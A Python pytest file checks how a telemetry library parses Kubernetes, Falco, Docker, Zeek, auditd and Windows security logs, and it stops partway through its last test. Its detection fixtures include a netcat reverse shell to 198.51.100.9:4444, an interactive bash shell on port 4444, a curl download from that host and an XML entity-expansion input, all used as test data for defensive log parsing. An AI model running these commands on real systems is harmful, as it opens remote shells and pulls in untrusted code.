"""Parsers read every real sample in shared data and lift the canonical fields detection relies on.

Pure tests: no database. Real files come from ../shared/data (the `shared_data` fixture);
where a real sample lacks a case (a privileged docker container, a webhook EventList,
a second metrics scrape), the test derives it from a real record in the producer's shape.
"""

from __future__ import annotations

import gzip
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from telemetry import schema
from telemetry.parsers import MAX_LINE_BYTES, PARSERS, ParsedRecord, RecordError, RecordRejected, get_parser
from telemetry.parsers.base import Parser

# folder -> format of every data file in it (zeek-rita's dns.log is the zeek_dns exception).
SAMPLE_FOLDERS = {
    "k8s-audit-falco": "k8s_audit",
    "k8s-audit-extra": "k8s_audit",
    "falco-alerts": "falco",
    "docker-events": "docker_events",
    "docker-inspect": "docker_inspect",
    "zeek-rita": "zeek_conn",
    "zeek-extra": "zeek_dns",
    "sysmon-linux": "linux_process",
    "auditd": "linux_process",
    "windows-sysmon": "windows_process",
    "cadvisor-metrics": "container_metrics",
}

# The only records in the real samples that cannot become events, and why.
EXPECTED_ERRORS = {
    # Falco's deliberately malformed fixture.
    "k8s-audit-falco/trace_files/fal_01_003.json": [(1, "not an audit.k8s.io Event (kind 0)")],
    # go-libaudit's catalog holds `type=UNKNOWN[1329] msg=?`: no time, no serial.
    "auditd/go-libaudit_audit-rhel7.log": [(31, "audit record without a msg=audit(<time>:<serial>) id")],
}


def parse(format_name: str, data: bytes | Path, **kwargs) -> tuple[list[ParsedRecord], list[RecordError]]:
    parser = get_parser(format_name, **kwargs)
    stream = data.open("rb") if isinstance(data, Path) else io.BytesIO(data)
    with stream:
        items = list(parser.parse_stream(stream))
    return [i for i in items if isinstance(i, ParsedRecord)], [i for i in items if isinstance(i, RecordError)]


def events(format_name: str, data: bytes | Path, **kwargs) -> list[dict]:
    records, errors = parse(format_name, data, **kwargs)
    assert errors == []
    return [r.event for r in records]


def only(format_name: str, data: bytes | Path, **kwargs) -> dict:
    (event,) = events(format_name, data, **kwargs)
    return event


def ndjson(*records: dict) -> bytes:
    return b"".join(json.dumps(r).encode() + b"\n" for r in records)


def sample_files(shared_data: Path) -> list[tuple[Path, str]]:
    files = []
    for folder, format_name in SAMPLE_FOLDERS.items():
        for path in sorted((shared_data / folder).rglob("*")):
            if not path.is_file() or path.name.startswith(("LICENSE", "README")) or path.suffix == ".yaml":
                continue
            files.append((path, "zeek_dns" if path.name == "dns.log" else format_name))
    return files


# --------------------------------------------------------------------------- every real file


def test_every_real_sample_file_parses_with_only_the_documented_errors(shared_data):
    files = sample_files(shared_data)
    assert len(files) >= 80
    for path, format_name in files:
        records, errors = parse(format_name, path)
        relative = str(path.relative_to(shared_data))
        assert [(e.line, e.reason) for e in errors] == EXPECTED_ERRORS.get(relative, []), relative
        assert records or relative in EXPECTED_ERRORS, relative
        for record in records:
            event = record.event
            assert set(event) <= set(schema.CANONICAL_FIELDS) | {"raw"}, relative
            assert event["kind"] in schema.KINDS
            assert event["time"].tzinfo is not None and event["time"].utcoffset().total_seconds() == 0
            json.dumps(event["raw"])  # raw is JSON-able as stored


def test_every_format_of_the_source_model_has_a_parser():
    assert set(PARSERS) == {
        "k8s_audit",
        "falco",
        "docker_events",
        "docker_inspect",
        "zeek_conn",
        "zeek_dns",
        "linux_process",
        "windows_process",
        "container_metrics",
        "generic_json",
    }
    with pytest.raises(ValueError, match="unknown format"):
        get_parser("syslog")


def test_schema_doc_lists_every_canonical_field():
    doc = (Path(__file__).resolve().parents[2] / "docs" / "schema.md").read_text()
    missing = [name for name in schema.CANONICAL_FIELDS if f"| `{name}` |" not in doc]
    assert missing == []


# --------------------------------------------------------------------------- Kubernetes audit

K8S = "k8s-audit-falco/trace_files"


def test_exec_into_a_pod_lifts_subresource_pod_namespace_and_user(shared_data):
    event = only("k8s_audit", shared_data / K8S / "exec_pod.json")
    assert event["kind"] == "k8s_audit"
    assert event["action"] == event["k8s_verb"] == "create"
    assert event["k8s_resource"] == "pods"
    assert event["k8s_subresource"] == "exec"
    assert event["pod"] == event["k8s_object_name"] == "nginx-deployment-7998647bdf-phvq7"
    assert event["namespace"] == "default"
    assert event["k8s_user"] == "minikube-user"
    assert event["src_ip"] == "192.168.99.1"
    assert event["time"] == datetime(2018, 10, 26, 13, 38, 34, 902914, tzinfo=UTC)
    # exec is long-running: its first audit event is ResponseStarted, kept (see docs/schema.md).
    assert event["raw"]["stage"] == "ResponseStarted" and "[ResponseStarted]" in event["message"]


@pytest.mark.parametrize(
    ("filename", "privileged", "host_network", "image"),
    [
        ("create_nginx_pod_privileged.json", True, False, "nginx"),
        ("create_nginx_pod_unprivileged.json", False, False, "nginx"),
        ("create_nginx_pod_hostnetwork.json", False, True, "nginx"),
        ("create_nginx_pod_nohostnetwork.json", False, False, "nginx"),
    ],
)
def test_pod_creation_lifts_privileged_host_network_and_image(shared_data, filename, privileged, host_network, image):
    event = only("k8s_audit", shared_data / K8S / filename)
    assert event["privileged"] is privileged
    assert event["host_network"] is host_network
    assert event["container_image"] == image
    # A created pod has no objectRef.name: the name the API server gave it is used.
    assert event["pod"].startswith("nginx-deployment-")


@pytest.mark.parametrize(
    "filename",
    [
        "create_nginx_pod_privileged_2nd_container.json",
        "create_nginx_pod_no_secctx_1st_container_privileged_2nd_container.json",
    ],
)
def test_each_container_of_a_pod_is_its_own_event_so_a_privileged_second_one_shows(shared_data, filename):
    first, second = events("k8s_audit", shared_data / K8S / filename)
    assert (first["container_image"], first["privileged"]) == ("nginx", False)
    assert (second["container_image"], second["privileged"]) == ("mysql:latest", True)
    assert first["raw"] is second["raw"] and first["pod"] == second["pod"]


def test_workload_templates_and_init_containers_count_for_privileged(shared_data):
    deployment = json.loads((shared_data / K8S / "create_deployment.json").read_text())
    assert only("k8s_audit", ndjson(deployment))["privileged"] is False

    template = deployment["requestObject"]["spec"]["template"]["spec"]
    template["initContainers"] = [{"name": "setup", "image": "busybox", "securityContext": {"privileged": True}}]
    template["hostNetwork"] = True
    found = events("k8s_audit", ndjson(deployment))
    setup = next(e for e in found if e["container_image"] == "busybox")
    assert setup["privileged"] is True and all(e["host_network"] is True for e in found)
    assert all(e["k8s_resource"] == "deployments" and "pod" not in e for e in found)


def test_metadata_level_events_leave_privileged_unknown(shared_data):
    event = only("k8s_audit", shared_data / K8S / "create_configmap.json")
    assert "privileged" not in event and "host_network" not in event


def test_webhook_eventlist_gives_one_event_per_item(shared_data):
    items = [json.loads((shared_data / K8S / name).read_text()) for name in ("exec_pod.json", "attach_pod.json")]
    body = {"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": items}
    found = [e["k8s_subresource"] for e in events("k8s_audit", json.dumps(body, indent=2).encode())]
    assert found == ["exec", "attach"]
    assert [e["k8s_subresource"] for e in get_parser("k8s_audit").parse_object(body)] == ["exec", "attach"]


def test_gke_and_aks_collector_envelopes_are_unwrapped(shared_data):
    lines = (shared_data / "k8s-audit-extra/elastic_kubernetes_audit_logs_test-audit.log").read_bytes()
    found = events("k8s_audit", lines)
    gke, aks = found[3], found[4]
    assert gke["k8s_user"] == "system:gke-master-healthcheck"
    assert gke["k8s_verb"] == "get" and gke["k8s_object_name"] == "readyz"
    assert gke["src_ip"] == "67.43.156.1"
    assert "protoPayload" in gke["raw"]  # raw is the envelope as delivered
    assert aks["k8s_user"] == "aksService" and aks["k8s_verb"] == "update"
    assert aks["k8s_resource"] == "leases" and aks["namespace"] == "kube-system"
    assert aks["raw"]["category"] == "kube-audit-admin"

    # Azure also ships properties.log as a JSON string.
    envelope = json.loads(lines.splitlines()[4])
    envelope["properties"]["log"] = json.dumps(envelope["properties"]["log"])
    assert only("k8s_audit", ndjson(envelope))["k8s_user"] == "aksService"


def test_gke_resource_names_split_into_resource_namespace_name_and_subresource():
    entry = {
        "protoPayload": {
            "methodName": "io.k8s.core.v1.pods.exec.create",
            "resourceName": "core/v1/namespaces/prod/pods/web-1/exec",
            "authenticationInfo": {"principalEmail": "dev@example.com"},
            "requestMetadata": {"callerIp": "203.0.113.7"},
        },
        "timestamp": "2025-01-01T00:00:00Z",
    }
    event = only("k8s_audit", ndjson(entry))
    assert (event["k8s_verb"], event["k8s_resource"], event["k8s_subresource"]) == ("create", "pods", "exec")
    assert (event["namespace"], event["pod"], event["k8s_user"]) == ("prod", "web-1", "dev@example.com")


# --------------------------------------------------------------------------- Falco


def test_falco_alert_lifts_rule_host_container_and_process(shared_data):
    found = events("falco", shared_data / "falco-alerts/elastic_falco_alerts_test-falco.lines01-09.jsonl")
    assert len(found) == 9
    shadow = found[2]
    assert shadow["kind"] == "alert"  # an openat: a process context, not a process start
    assert shadow["action"] == "Read sensitive file trusted after startup"
    assert shadow["host"] == "97ade2b595f0"
    assert shadow["container_id"] == "9656db3bb358"
    assert shadow["container_name"] == "elastic-package-service-falco-event-generator-1"
    assert shadow["container_image"] == "falcosecurity/event-generator:0.10.0"
    assert shadow["process_command_line"].startswith("httpd --loglevel info run")
    assert shadow["process_parent_command_line"] == "event-generator run --loop"
    assert shadow["time"] == datetime(2024, 5, 7, 18, 54, 26, 271403, tzinfo=UTC)

    shell = found[3]
    assert shell["kind"] == "process"  # evt.type execve
    assert shell["action"] == "Run shell untrusted"
    assert shell["process_image"] == "/bin/bash"
    assert shell["process_command_line"] == "bash -c ls > /dev/null"
    assert shell["process_parent_image"] == "/bin/event-generator"  # proc.pexepath before proc.pname
    assert shell["process_user"] == "root"


def test_falco_network_and_kubernetes_fields_are_lifted_when_present():
    alert = {
        "time": "2025-02-01T10:00:00.123456789Z",
        "rule": "Redirect STDOUT/STDIN to Network Connection in Container",
        "priority": "Notice",
        "source": "syscall",
        "hostname": "node-1",
        "uuid": "4d2c3d0a-0000-4000-8000-000000000001",
        "output": "...",
        "output_fields": {
            "container.id": "host",
            "evt.type": "dup2",
            "fd.cip": "10.0.0.5",
            "fd.cport": 40000,
            "fd.sip": "198.51.100.9",
            "fd.sport": 4444,
            "fd.l4proto": "TCP",
            "k8s.pod.name": "web-1",
            "k8s.ns.name": "prod",
            "proc.cmdline": "bash -i",
        },
    }
    event = only("falco", ndjson(alert))
    assert (event["src_ip"], event["src_port"], event["dst_ip"], event["dst_port"]) == (
        "10.0.0.5",
        40000,
        "198.51.100.9",
        4444,
    )
    assert event["protocol"] == "tcp"
    assert (event["pod"], event["namespace"]) == ("web-1", "prod")
    assert "container_id" not in event  # Falco's "host" marker is not a container


# --------------------------------------------------------------------------- Docker


def test_docker_events_lift_action_container_and_image(shared_data):
    found = events("docker_events", shared_data / "docker-events/docker-cli_docker-events-json.golden.jsonl")
    assert [e["action"] for e in found] == ["create", "start", "attach", "die"]
    assert {e["container_id"] for e in found} == {"abc123"}
    assert {e["container_image"] for e in found} == {"ubuntu:latest"}
    # time is seconds; the golden file's timeNano (== time) is not trusted.
    assert found[0]["time"] == datetime(2001, 9, 9, 1, 46, 40, tzinfo=UTC)


def test_docker_exec_and_legacy_events_are_read():
    exec_start = {
        "status": "exec_start: sh -c id",
        "id": "3d88e0e35432",
        "from": "alpine:3.19",
        "Type": "container",
        "Action": "exec_start: sh -c id",
        "Actor": {"ID": "3d88e0e35432", "Attributes": {"execID": "e1", "image": "alpine:3.19", "name": "web"}},
        "scope": "local",
        "time": 1735689600,
        "timeNano": 1735689600123456789,
    }
    legacy = {"status": "start", "id": "3d88e0e35432", "from": "alpine:3.19", "time": 1735689601}
    first, second = events("docker_events", ndjson(exec_start, legacy))
    assert first["action"] == "exec_start" and first["process_command_line"] == "sh -c id"
    assert first["container_name"] == "web"
    assert first["time"] == datetime(2025, 1, 1, 0, 0, 0, 123456, tzinfo=UTC)
    assert (second["action"], second["container_id"], second["container_image"]) == (
        "start",
        "3d88e0e35432",
        "alpine:3.19",
    )


def test_docker_inspect_lifts_configuration(shared_data):
    event = only("docker_inspect", shared_data / "docker-inspect/watchtower_container_running.json")
    assert event["kind"] == "container" and event["action"] == "inspect"
    assert event["container_name"] == "portainer"
    assert event["container_image"] == "portainer/portainer:latest"
    assert event["privileged"] is False and event["host_network"] is False
    assert event["dst_port"] == 9000
    assert event["process_command_line"] == "/portainer"
    assert event["time"] == datetime(2019, 4, 13, 22, 38, 24, 498745, tzinfo=UTC)


def test_docker_inspect_privileged_host_network_container(shared_data):
    container = json.loads((shared_data / "docker-inspect/watchtower_container_running.json").read_text())
    container["HostConfig"]["Privileged"] = True
    container["HostConfig"]["NetworkMode"] = "host"
    container["Config"]["Labels"] = {"io.kubernetes.pod.name": "web-1", "io.kubernetes.pod.namespace": "prod"}
    event = only("docker_inspect", json.dumps([container], indent=4).encode())
    assert event["privileged"] is True and event["host_network"] is True
    assert (event["pod"], event["namespace"]) == ("web-1", "prod")


def test_docker_container_list_array_keeps_each_elements_line(shared_data):
    records, errors = parse("docker_inspect", shared_data / "docker-inspect/watchtower_containers.json")
    assert errors == []
    assert [r.line for r in records] == [2, 50, 98, 161]
    assert records[0].event["container_name"] == "watchtower-stopped"


# --------------------------------------------------------------------------- Zeek


def test_zeek_tsv_conn_row(shared_data):
    records, _ = parse("zeek_conn", shared_data / "zeek-rita/proxy/conn.log")
    first = records[0]
    assert first.line == 9  # after eight header lines
    event = first.event
    assert event["time"] == datetime(2023, 1, 4, 14, 37, 36, 913119, tzinfo=UTC)
    assert (event["src_ip"], event["src_port"], event["dst_ip"], event["dst_port"]) == (
        "10.136.0.18",
        55548,
        "10.136.0.16",
        3128,
    )
    assert event["protocol"] == "tcp" and event["action"] == "SF" and event["direction"] == "internal"
    assert (event["bytes_out"], event["bytes_in"], event["packets_out"], event["packets_in"]) == (1030, 20275, 18, 14)
    assert event["raw"]["service"] == "http,ssl" and event["raw"]["orig_ip_bytes"] == 1974
    assert "tunnel_parents" not in event["raw"]  # "-": unset
    empty_set = events("zeek_conn", shared_data / "zeek-rita/open_conns/open/conn.log")[0]
    assert empty_set["raw"]["tunnel_parents"] == []  # "(empty)" in a set[string] column


def test_zeek_icmp_row_sets_type_and_code(shared_data):
    found = events("zeek_conn", shared_data / "zeek-rita/proxy_rolling/conn.16:00:00-17:00:00.log.gz")
    echo = next(e for e in found if e["protocol"] == "icmp" and e.get("icmp_type") == 8)
    assert echo["icmp_code"] == 0
    assert echo["host"] == "worker-eth0-1"  # the leading _node_name column
    unset_bytes = next(
        e for e in events("zeek_conn", shared_data / "zeek-rita/proxy/conn.log") if e["protocol"] == "icmp"
    )
    assert (unset_bytes["icmp_type"], unset_bytes["icmp_code"]) == (133, 134)
    assert "bytes_out" not in unset_bytes  # "-" is unset; orig_ip_bytes is not substituted


def test_zeek_gzip_files_with_node_name_column(shared_data):
    path = shared_data / "zeek-rita/missing_host/2024-04-19/conn.00:00:00-01:00:00.log.gz"
    found = events("zeek_conn", path)
    assert len(found) == 1765
    assert found[0]["host"] == "worker-eth0-1"
    assert found[0]["raw"]["_node_name"] == "worker-eth0-1"
    assert found[0]["src_ip"] == "167.94.138.145" and found[0]["action"] == "REJ"
    assert found[0]["direction"] == "inbound"


def test_zeek_json_conn_row(shared_data):
    event = events("zeek_conn", shared_data / "zeek-rita/json_with_all_fields/conn.log")[0]
    assert event["time"] == datetime(2018, 1, 31, 18, 12, 6, 539915, tzinfo=UTC)
    assert (event["src_ip"], event["dst_ip"], event["dst_port"]) == ("10.55.100.100", "205.204.101.182", 80)
    assert event["direction"] == "outbound" and event["bytes_out"] == 719


def test_zeek_dns_json_with_iso_timestamps(shared_data):
    found = events("zeek_dns", shared_data / "zeek-extra/brimdata_wrccdc2018_zeek-json_dns.subset-a.json")
    assert len(found) == 260
    event = found[0]
    assert event["kind"] == "dns" and event["dns_query"] == "ise.wrccdc.org"
    assert (event["src_ip"], event["dst_ip"], event["dst_port"]) == ("10.47.1.100", "10.0.0.100", 53)
    assert event["time"] == datetime(2018, 3, 24, 17, 15, 20, 865716, tzinfo=UTC)
    assert any(e["action"] == "NXDOMAIN" for e in found)


def test_zeek_tsv_row_with_wrong_column_count_is_rejected_and_parsing_goes_on(shared_data):
    lines = (shared_data / "zeek-rita/proxy/conn.log").read_bytes().splitlines(keepends=True)
    broken = b"".join(lines[:9] + [b"1672843056.9\tCshort\t10.0.0.1\n"] + lines[9:12])
    records, errors = parse("zeek_conn", broken)
    assert [(e.line, e.reason) for e in errors] == [(10, "wrong column count: 3 values for 21 #fields")]
    assert [r.line for r in records] == [9, 11, 12, 13]


# --------------------------------------------------------------------------- Linux processes


def test_sysmon_for_linux_process_create(shared_data):
    event = only("linux_process", shared_data / "sysmon-linux/grapl_process_creation.xml")
    assert event["kind"] == "process" and event["action"] == "1"
    assert event["host"] == "tux"
    assert event["process_image"] == "/usr/bin/tr"
    assert event["process_command_line"] == "tr [:upper:][:lower:]"
    assert event["process_user"] == "root" and event["process_pid"] == 49570
    assert "process_parent_image" not in event  # Sysmon for Linux wrote "-"
    assert event["time"] == datetime(2022, 1, 4, 19, 54, 15, 661000, tzinfo=UTC)
    assert event["raw"]["EventData"]["ParentProcessId"] == "49568"

    fragment = only("linux_process", shared_data / "sysmon-linux/grapl_process_creation_event_data.xml")
    assert fragment["process_image"] == "/usr/bin/tr" and "host" not in fragment


def test_sysmon_for_linux_json_with_sysmon_field_names():
    record = {
        "EventID": 1,
        "Computer": "web-1",
        "UtcTime": "2025-03-01 12:00:00.250",
        "Image": "/usr/bin/nc",
        "CommandLine": "nc -e /bin/sh 198.51.100.9 4444",
        "ParentImage": "/usr/bin/bash",
        "ParentCommandLine": "bash",
        "User": "www-data",
        "ProcessId": 4242,
    }
    event = only("linux_process", ndjson(record))
    assert event["kind"] == "process" and event["host"] == "web-1"
    assert event["process_command_line"] == "nc -e /bin/sh 198.51.100.9 4444"
    assert event["process_parent_image"] == "/usr/bin/bash" and event["process_pid"] == 4242


def test_auditd_execve_groups_records_by_serial(shared_data):
    records, errors = parse("linux_process", shared_data / "auditd/otrf_sh_arp_cache_2020-11-10074812.log")
    assert errors == []
    assert [r.line for r in records] == [1, 7]
    arp = records[0].event
    assert arp["kind"] == "process" and arp["action"] == "execve"
    assert arp["process_image"] == "/usr/sbin/arp"
    assert arp["process_command_line"] == "arp -a"
    assert arp["process_pid"] == 1631 and arp["process_user"] == "1000"
    assert arp["time"] == datetime(2020, 11, 10, 7, 48, 16, 155000, tzinfo=UTC)
    assert [r["type"] for r in arp["raw"]["records"]] == ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"]
    assert records[1].event["process_command_line"] == "grep -v ^?"


def test_auditd_hex_encoded_arguments_are_decoded(shared_data):
    found = events_with_errors_allowed("linux_process", shared_data / "auditd/go-libaudit_audit-rhel7.log")
    jq = next(e for e in found if e.get("process_command_line", "").startswith("jq . {"))
    assert '"name": "/usr/bin/jq"' in jq["process_command_line"]
    login = next(e for e in found if e["action"] == "USER_LOGIN")
    assert login["kind"] == "other" and login["src_ip"] == "96.241.146.97"


def events_with_errors_allowed(format_name: str, path: Path) -> list[dict]:
    return [r.event for r in parse(format_name, path)[0]]


def test_auditd_complete_events_from_go_libaudit(shared_data):
    cases = yaml.safe_load((shared_data / "auditd/go-libaudit_aucoalesce_ubuntu-16.10-linux-4.8.0.yaml").read_text())
    for name, text in cases["tests"].items():
        found = events("linux_process", text.encode())
        assert len(found) == 1, name
    uname = only("linux_process", cases["tests"]["EXECVE"].encode())
    assert uname["process_image"] == "/bin/uname" and uname["process_command_line"] == "uname -a"
    ifconfig = only("linux_process", cases["tests"]["ANOM_PROMISCUOUS"].encode())
    assert ifconfig["kind"] == "other" and ifconfig["action"] == "ANOM_PROMISCUOUS"
    assert ifconfig["process_command_line"] == "ifconfig ens4 -promisc"  # hex PROCTITLE, NULs as spaces


def test_ausearch_separators_close_events(shared_data):
    text = (shared_data / "auditd/otrf_sh_arp_cache_2020-11-10074812.log").read_text().splitlines()
    body = "\n".join(["----", *text[:6], "----", *text[6:]]).encode()
    records, errors = parse("linux_process", body)
    assert errors == [] and [r.line for r in records] == [2, 9]


def test_auditd_json_shapes_laurel_auditbeat_and_single_records():
    laurel = {
        "ID": "1604994496.155:92733",
        "SYSCALL": {
            "arch": "0xc000003e",
            "syscall": 59,
            "success": "yes",
            "pid": 1631,
            "uid": 1000,
            "exe": "/usr/sbin/arp",
        },
        "EXECVE": {"argc": 2, "ARGV": ["arp", "-a"]},
        "PROCTITLE": {"ARGV": ["arp", "-a"]},
    }
    auditbeat = {
        "@timestamp": "2020-11-10T07:48:16.155Z",
        "event": {"action": "executed", "category": ["process"]},
        "process": {"executable": "/usr/bin/curl", "args": ["curl", "-s", "http://198.51.100.9/x"], "pid": 77},
        "user": {"name": "alice"},
        "host": {"name": "web-1"},
        "auditd": {"sequence": 5},
    }
    first, second = events("linux_process", ndjson(laurel, auditbeat))
    assert (first["kind"], first["process_image"], first["process_command_line"]) == (
        "process",
        "/usr/sbin/arp",
        "arp -a",
    )
    assert second["process_command_line"] == "curl -s http://198.51.100.9/x" and second["process_user"] == "alice"

    lines = [
        {"type": "SYSCALL", "msg": "audit(1700000000.100:7)", "syscall": "59", "arch": "c000003e", "exe": "/bin/id"},
        {"type": "EXECVE", "msg": "audit(1700000000.100:7)", "argc": "1", "a0": "id"},
    ]
    assert only("linux_process", ndjson(*lines))["process_command_line"] == "id"


# --------------------------------------------------------------------------- Windows processes

WINDOWS = "windows-sysmon"


def test_windows_sysmon_1_and_security_4688_from_json_lines(shared_data):
    found = events("windows_process", shared_data / WINDOWS / "otrf_empire_launcher_vbs_2020-09-04160940.subset.json")
    sysmon = next(e for e in found if e["action"] == "1" and "powershell.exe" in e["process_image"])
    assert sysmon["kind"] == "process"
    assert sysmon["host"] == "WORKSTATION5.theshire.local"
    assert "-noP -sta -w 1 -enc" in sysmon["process_command_line"]
    assert sysmon["process_parent_image"] == r"C:\Windows\System32\wscript.exe"
    assert sysmon["process_user"] == r"THESHIRE\pgustavo"
    assert sysmon["time"] == datetime(2020, 9, 4, 20, 9, 55, 760000, tzinfo=UTC)

    security = next(e for e in found if e["action"] == "4688" and e["process_image"].endswith("wscript.exe"))
    assert security["kind"] == "process"
    assert security["process_parent_image"] == r"C:\Windows\explorer.exe"
    assert security["process_user"] == "pgustavo"
    assert security["process_pid"] == 0x988  # NewProcessId "0x988"
    assert "launcher.vbs" in security["process_command_line"]


def test_windows_other_event_ids_are_kept_as_other_network_or_dns(shared_data):
    found = events(
        "windows_process", shared_data / WINDOWS / "otrf_cmd_bitsadmin_download_psh_script_2020-10-2302365189.json"
    )
    assert len(found) == 424
    by_action = {e["action"]: e for e in found}
    assert by_action["4624"]["kind"] == "other"
    assert by_action["3"]["kind"] == "network" and by_action["3"]["dst_port"]
    assert by_action["22"]["kind"] == "dns" and by_action["22"]["dns_query"]
    bitsadmin = next(e for e in found if e["action"] == "1" and e["process_image"].endswith("bitsadmin.exe"))
    assert "/transfer /Download" in bitsadmin["process_command_line"]


def test_windows_event_xml_one_event_per_line(shared_data):
    records, errors = parse("windows_process", shared_data / WINDOWS / "grapl_36_eventlog.xml")
    assert errors == [] and len(records) == 36
    assert records[0].line == 1 and records[-1].line == 36
    first = records[0].event
    assert first["kind"] == "process" and first["host"] == "DESKTOP-FVSHABR"
    assert first["process_image"] == r"C:\Windows\System32\wbem\unsecapp.exe"
    assert first["process_parent_command_line"] == r"C:\Windows\system32\svchost.exe -k DcomLaunch"
    assert first["raw"]["System"]["Provider"] == "Microsoft-Windows-Sysmon"
    file_create = records[1].event
    assert (file_create["kind"], file_create["action"]) == ("other", "11")


def test_windows_events_wrapped_in_events_with_declaration_and_non_process_channels():
    body = b"""<?xml version="1.0" encoding="utf-8"?>
<Events>
  <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
    <System>
      <Provider Name="Microsoft-Windows-Kernel-General"/>
      <EventID>1</EventID>
      <TimeCreated SystemTime="2025-01-01T00:00:00.000000000Z"/>
      <Channel>System</Channel>
      <Computer>dc-1</Computer>
    </System>
    <EventData><Data Name="NewTime">2025-01-01T00:00:00Z</Data></EventData>
  </Event>
  <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
    <System>
      <Provider Name="Microsoft-Windows-Security-Auditing"/>
      <EventID>4688</EventID>
      <TimeCreated SystemTime="2025-01-01T00:00:05.000000000Z"/>
      <Channel>Security</Channel>
      <Computer>dc-1</Computer>
    </System>
    <EventData>
      <Data Name="SubjectUserName">alice</Data>
      <Data Name="NewProcessId">0x1f4</Data>
      <Data Name="NewProcessName">C:\\Windows\\System32\\cmd.exe</Data>
      <Data Name="CommandLine">cmd.exe /c whoami</Data>
      <Data Name="ParentProcessName">C:\\Windows\\explorer.exe</Data>
    </EventData>
  </Event>
</Events>
"""
    records, errors = parse("windows_process", body)
    assert errors == []
    assert [r.line for r in records] == [3, 13]
    time_change, created = (r.event for r in records)
    assert (time_change["kind"], time_change["action"]) == ("other", "1")  # System/1 is not Sysmon
    assert (created["kind"], created["process_pid"], created["process_user"]) == ("process", 500, "alice")
    assert created["process_image"] == "C:\\Windows\\System32\\cmd.exe"
    assert created["time"] == datetime(2025, 1, 1, 0, 0, 5, tzinfo=UTC)


def test_xml_with_doctype_or_entities_is_refused():
    hostile = (
        b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">]>\n'
        b"<Event><System><EventID>1</EventID></System><EventData><Data Name='Image'>&lol;</Data></EventData></Event>\n"
    )
    records, errors = parse("windows_process", hostile)
    assert records == []
    assert errors[0] == RecordError(2, "XML DOCTYPE/ENTITY declarations are refused")


def test_malformed_xml_event_is_rejected_and_the_next_event_is_read(shared_data):
    lines = (shared_data / WINDOWS / "grapl_36_eventlog.xml").read_bytes().splitlines(keepends=True)
    broken = lines[0] + lines[1][:200] + b"\n" + lines[2]
    records, errors = parse("windows_process", broken)
    assert [e.line for e in errors] == [2] and errors[0].reason.startswith("invalid XML")
    assert [r.line for r in records] == [1, 3]


# --------------------------------------------------------------------------- container metrics

CADVISOR = "cadvisor-metrics"


def test_cadvisor_kubelet_scrape_gives_memory_per_container_and_skips_aggregates(shared_data):
    found = events(
        "container_metrics", shared_data / CADVISOR / "nri-kubernetes_1_35_kubelet_metrics_cadvisor.subset.prom"
    )
    assert len(found) == 17  # containers only: no root, /kubepods, pod cgroups or pause sandboxes
    coredns = next(e for e in found if e["container_name"] == "coredns")
    assert coredns["kind"] == "metric"
    assert coredns["memory_bytes"] == 16232448
    assert coredns["namespace"] == "kube-system" and coredns["pod"] == "coredns-7d764666f9-qdcxt"
    assert coredns["container_id"] == "facedc3f02c7efea0daff3590c408c2fb5820f875b93cb4c757df0d10d73786f"
    assert coredns["time"] == datetime.fromtimestamp(1782468872.783, tz=UTC)
    assert "cpu_cores" not in coredns  # one scrape: no rate yet
    assert coredns["raw"]["metrics"]["container_cpu_usage_seconds_total"] == pytest.approx(0.165531)


def test_cadvisor_cpu_rate_between_two_scrapes_of_the_same_container(shared_data):
    text = (shared_data / CADVISOR / "nri-kubernetes_1_35_kubelet_metrics_cadvisor.subset.prom").read_text()
    rows = [
        line
        for line in text.splitlines()
        if line.startswith(("container_cpu_usage_seconds_total{", "container_memory_working_set_bytes{"))
        and 'container="coredns"' in line
    ]
    later = [
        row.replace(" 0.165531 1782468872783", " 5.165531 1782468882783").replace(
            " 1.6232448e+07 1782468872783", " 1.7e+07 1782468882783"
        )
        for row in rows
    ]
    first, second = events("container_metrics", "\n".join(rows + later).encode())
    assert "cpu_cores" not in first
    assert second["cpu_cores"] == pytest.approx(0.5)  # 5 cpu-seconds over 10 s
    assert second["memory_bytes"] == 17000000


def test_standalone_cadvisor_sums_per_cpu_series(shared_data):
    event = only("container_metrics", shared_data / CADVISOR / "cadvisor_lib_metrics_testdata_prometheus_metrics.prom")
    assert (event["container_id"], event["container_name"], event["container_image"]) == (
        "testcontainer",
        "testcontaineralias",
        "test",
    )
    assert event["memory_bytes"] == 9
    assert event["raw"]["metrics"]["container_cpu_usage_seconds_total"] == pytest.approx(1.4e-08)
    assert event["time"] == datetime(2014, 3, 17, 14, 26, 3, tzinfo=UTC)


def test_container_metrics_json_form():
    sample = {
        "time": 1735689600,
        "container_id": "abc",
        "pod": "web-1",
        "namespace": "prod",
        "cpu_cores": 1.5,
        "memory_bytes": 1024,
    }
    event = only("container_metrics", ndjson(sample))
    assert (event["cpu_cores"], event["memory_bytes"], event["pod"]) == (1.5, 1024, "web-1")


# --------------------------------------------------------------------------- generic JSON


def test_generic_json_applies_the_field_map():
    field_map = {"time": "ts", "kind": "=network", "src_ip": "id.orig_h", "dst_port": "conn.port", "action": "verdict"}
    record = {"ts": "2025-01-01T00:00:00+02:00", "id.orig_h": "10.0.0.1", "conn": {"port": "443"}, "verdict": "allow"}
    event = only("generic_json", ndjson(record), field_map=field_map)
    assert event["time"] == datetime(2024, 12, 31, 22, 0, tzinfo=UTC)
    assert (event["kind"], event["src_ip"], event["dst_port"], event["action"]) == ("network", "10.0.0.1", 443, "allow")


def test_generic_json_rejects_unknown_canonical_fields_when_built():
    with pytest.raises(ValueError, match="unknown canonical field.*source_address"):
        get_parser("generic_json", field_map={"time": "ts", "source_address": "src"})


def test_generic_json_record_without_time_is_rejected():
    _, errors = parse("generic_json", ndjson({"msg": "no time"}), field_map={"message": "msg"})
    assert errors == [RecordError(1, "missing required field time (time/@timestamp/timestamp)")]


# --------------------------------------------------------------------------- streams and bounds


def test_mixed_good_and_bad_ndjson_yields_good_records_and_numbered_errors(shared_data):
    good = (shared_data / K8S / "exec_pod.json").read_text().strip()
    body = "\n".join(
        [
            good,
            '{"kind": "Event", "verb": "get",',  # truncated JSON
            good,
            json.dumps({"kind": "Event", "verb": "get", "auditID": "x"}),  # no timestamp
            "",
            json.dumps({**json.loads(good), "stageTimestamp": "yesterday"}),
            "not json at all",
            good,
        ]
    ).encode()
